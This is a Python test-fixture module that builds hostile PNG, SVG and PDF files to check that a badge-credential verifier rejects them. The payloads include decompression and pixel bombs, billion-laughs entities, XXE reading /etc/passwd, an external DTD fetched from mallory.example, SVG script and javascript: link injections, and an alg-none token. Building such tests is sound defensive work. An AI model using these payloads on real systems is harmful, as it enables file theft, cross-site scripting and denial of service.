"""Pictures and certificates (PNG, SVG, PDF) that carry something else than one credential."""

# ruff: noqa: E501 - one row for each file, so that a table reads as a table

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from tools.hostile.ground import INWARD, OWN, Case, award_document, compact, honest, signed
from tools.hostile.packing import zlibbed
from tools.hostile.tokens import claims_of, header_of, part

PNG = "Open Badges 3.0 section 5.3.1; cairn.credentials.baking.png"
SVG = "Open Badges 3.0 section 5.3.2; cairn.credentials.baking.svg"
PDF = "cairn.credentials.baking.pdf"
MEBIBYTE = 2**20


def cases() -> Iterator[Case]:
    """Every file of this kind."""
    yield from _png()
    yield from _svg()
    yield from _pdf()


def chunk(kind: bytes, content: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(*chunks: bytes, width: int = 1, height: int = 1, pixels: bytes = b"\0\0") -> bytes:
    """Return a grey picture with these parts behind its header."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + chunk(b"IDAT", zlibbed(pixels)) + chunk(b"IEND", b"")


def baked(text: str) -> bytes:
    """The part of a PNG that holds a credential."""
    return chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + text.encode())


def packed(text: bytes, kind: bytes = b"iTXt") -> bytes:
    """The same, packed."""
    between = b"\0\1\0\0\0" if kind == b"iTXt" else b"\0\0"
    return chunk(kind, b"openbadgecredential" + between + zlibbed(text))


def _png() -> Iterator[Case]:
    text = honest().text
    other = compact(signed(award_document(name="Another"))).decode().strip()
    whole = png(baked(text))
    none = f"{part(header_of(alg='none'))}.{part(claims_of())}."
    cut = whole[: len(whole) // 2]
    huge = whole[:8] + struct.pack(">I", 0xFFFFFFFF) + whole[12:]
    damaged = whole.replace(b"Data Analysis", b"Date Analysis", 1)
    bomb = b'{"a":"' + b"x" * (8 * MEBIBYTE) + b'"}'
    small_bomb = packed(b'{"a":"' + b"x" * (3 * MEBIBYTE) + b'"}', b"zTXt")
    rows: tuple[tuple[str, bytes, str, str], ...] = (
        ("text-bomb", png(packed(bomb)), "Packs eight mebibytes of one letter into a few kilobytes.", "too_large"),
        ("many-bombs", png(*[small_bomb] * 3, baked(text), baked(text)), "Packs three mebibytes into each of several parts.", "several_credentials"),
        ("two-credentials", png(baked(text), baked(other)), "Carries two credentials: readers may show one and check the other.", "several_credentials"),
        ("cut-short", cut, "Breaks off in the middle.", "bad_image"),
        ("huge-length", huge, "Announces a part of four gibibytes.", "bad_image"),
        ("wrong-checksum", damaged, "Holds a part whose checksum does not fit.", "bad_image"),
        ("no-end", whole[:-12], "Has no end.", "bad_image"),
        ("unpackable", png(chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + b"\x78\x01\xff\xff")), "Holds packed text that cannot be unpacked.", "bad_image"),
        ("packed-oddly", png(chunk(b"iTXt", b"openbadgecredential\0\1\7\0\0" + b"x")), "Holds text that is packed in an unknown way.", "bad_image"),
        ("many-parts", png(*[chunk(b"tEXt", b"")] * 4000 + [baked(text)])[:-12] + b"\0" * 8, "Is made of thousands of parts and ends in none.", "bad_image"),
        ("nothing-inside", png(), "Carries no credential.", "no_credential_inside"),
        ("behind-the-end", png() + baked(text), "Carries its credential behind its end, where no reader looks.", "no_credential_inside"),
        ("token-alg-none", png(baked(none)), "Carries a token without a signature.", "no_proof"),
        ("picture-in-picture", png(baked(png(baked(text)).decode("latin-1"))), "Carries a picture in place of a credential.", "not_json"),
    )  # fmt: skip
    for name, data, tries, code in rows:
        yield Case(f"png/{name}.png", data, tries, "not_verified", code, (), PNG)
    yield Case(
        "png/honest.png", whole, "Nothing: an honest award in a picture.", "verified", "signature_valid", OWN, PNG
    )
    vast = png(baked(text), width=100_000, height=100_000, pixels=bytes(4 * MEBIBYTE))
    yield Case(
        "png/pixel-bomb.png",
        vast,
        "Announces ten thousand million pixels around an honest award: whoever draws it runs out of memory.",
        "verified",
        "signature_valid",
        OWN,
        PNG,
    )
    yield Case(
        "png/address-inward.png",
        png(chunk(b"tEXt", b"openbadges\0" + INWARD.encode())),
        "Carries an address in the verifier's network in place of a credential.",
        "undetermined",
        "address_unreachable",
        (INWARD,),
        PNG,
    )


def _svg() -> Iterator[Case]:
    text = honest().text
    element = f'<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0"><![CDATA[{text}]]></o:credential>'
    other = element.replace("Data Analysis", "Another Analysis")
    space = 'xmlns="http://www.w3.org/2000/svg"'
    link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

    def drawing(inside: str, *, before: str = "", attributes: str = "") -> bytes:
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<svg {space} {link} {attributes}>{element}{inside}</svg>\n'.encode()

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    active = "Runs a script in the browser of whoever looks at it"
    acts: tuple[tuple[str, bytes, str], ...] = (
        ("script", drawing("<script>alert(1)</script>"), f"{active}."),
        ("script-in-namespace", drawing('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'), f"{active}, under a prefix of its own."),
        ("onload", drawing("", attributes='onload="alert(1)"'), f"{active}, when it is loaded."),
        ("javascript-link", drawing('<a xlink:href="java\tscript:alert(1)"><circle r="1"/></a>'), f"{active}, when it is clicked, written with a tab inside."),
        ("animated-link", drawing('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'), f"{active}, by an animation that changes a link."),
        ("foreign-object", drawing('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://mallory.example/"/></foreignObject>'), "Shows a foreign web page inside itself."),
    )  # fmt: skip
    for name, data, tries in acts:
        yield Case(f"svg/{name}.svg", data, tries, "undetermined", "active_image", (), SVG)
    broken: tuple[tuple[str, bytes, str, str], ...] = (
        ("entity-expansion", drawing("&l9;", before=f"<!DOCTYPE svg [{laughs}]>"), "Expands a few entities to thousands of millions of letters.", "bad_image"),
        ("entity-quadratic", drawing("&a;" * 5000, before=f'<!DOCTYPE svg [<!ENTITY a "{"x" * 5000}">]>'), "Expands one long entity thousands of times.", "bad_image"),
        ("entity-file", drawing("&a;", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "Reads a file of the verifier's machine.", "bad_image"),
        ("entity-inward", drawing("&a;", before=f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{INWARD}">]>'), "Fetches an address in the verifier's network.", "bad_image"),
        ("entity-parameter", drawing("", before='<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://mallory.example/x.dtd"> %a;]>'), "Fetches definitions from a stranger.", "bad_image"),
        ("two-credentials", drawing(other), "Carries two credentials.", "several_credentials"),
        ("cut-short", drawing("")[:-200], "Breaks off in the middle.", "bad_image"),
        ("utf-16", drawing("").decode().replace("UTF-8", "UTF-16").encode("utf-16"), "Is written in UTF-16, where filters that look for words see none.", "unknown_format"),
        ("declared-utf-7", drawing("").replace(b'"UTF-8"', b'"UTF-7"'), "Says that it is written in UTF-7.", "bad_image"),
        ("nothing-inside", f"<svg {space}><g/></svg>\n".encode(), "Carries no credential.", "no_credential_inside"),
        ("hidden-in-comment", f"<svg {space}><!-- {element.replace('--', '- -')} --><g/></svg>\n".encode(), "Carries its credential in a comment.", "no_credential_inside"),
    )  # fmt: skip
    for name, data, tries, code in broken:
        yield Case(f"svg/{name}.svg", data, tries, "not_verified", code, (), SVG)
    older = f'<o:assertion xmlns:o="http://openbadges.org" verify="{INWARD}"/>'
    yield Case(
        "svg/address-inward.svg",
        f"<svg {space}>{older}<g/></svg>\n".encode(),
        "Carries an address in the verifier's network in place of a credential.",
        "undetermined",
        "address_unreachable",
        (INWARD,),
        SVG,
    )
    yield Case(
        "svg/honest.svg",
        drawing("<circle r='4'/>"),
        "Nothing: an honest award in a drawing.",
        "verified",
        "signature_valid",
        OWN,
        SVG,
    )
    image = f'<image xlink:href="{INWARD}" width="1" height="1"/>'
    yield Case(
        "svg/picture-inward.svg",
        drawing(image),
        "Shows a picture from the verifier's network; checking it must fetch none.",
        "verified",
        "signature_valid",
        OWN,
        SVG,
    )


def pdf(*streams: tuple[bytes, bytes], more: bytes = b"") -> bytes:
    """Return as much of a PDF as carries attachments: pairs of entries of the dictionary and content."""
    body = b"%PDF-1.7\n"
    for number, (entries, content) in enumerate(streams, 1):
        length = str(len(content)).encode()
        body += b"%d 0 obj\n<</Type/EmbeddedFile%s/Length %s>>\nstream\n%s\nendstream\nendobj\n" % (
            number,
            entries,
            length,
            content,
        )
    return body + b"trailer\n<<" + more + b"/Root 1 0 R>>\n%%EOF\n"


def _pdf() -> Iterator[Case]:
    text = honest().text.encode()
    other = compact(signed(award_document(name="Another"))).strip()
    flate = b"/Filter/FlateDecode"
    bomb = zlibbed(b'{"a":"' + b"x" * (6 * MEBIBYTE) + b'"}')
    unsigned = compact(award_document()).strip()
    rows: tuple[tuple[str, bytes, str, str, str], ...] = (
        ("attachment-bomb", pdf((flate, bomb)), "Packs six mebibytes into an attachment.", "not_verified", "too_large"),
        ("two-credentials", pdf((b"", text), (b"", other)), "Carries two credentials.", "not_verified", "several_credentials"),
        ("locked", pdf((b"", b"\x00\x01\x02"), more=b"/Encrypt 9 0 R"), "Is locked, so that nobody can look inside.", "undetermined", "locked_pdf"),
        ("nothing-inside", pdf((b"", b"hello")), "Carries no credential.", "not_verified", "no_credential_inside"),
        ("many-streams", pdf(*[(b"", b"{")] * 600), "Is made of hundreds of attachments that begin like JSON.", "not_verified", "no_credential_inside"),
        ("unsigned", pdf((b"", unsigned)), "Shows a certificate whose attachment nobody signed.", "not_verified", "no_proof"),
        ("lying-length", pdf((b"", text)).replace(b"/Length ", b"/Length 9999", 1), "Lies about the length of its attachment, which is found all the same.", "verified", "signature_valid"),
    )  # fmt: skip
    for name, data, tries, verdict, code in rows:
        yield Case(f"pdf/{name}.pdf", data, tries, verdict, code, OWN if verdict == "verified" else (), PDF)
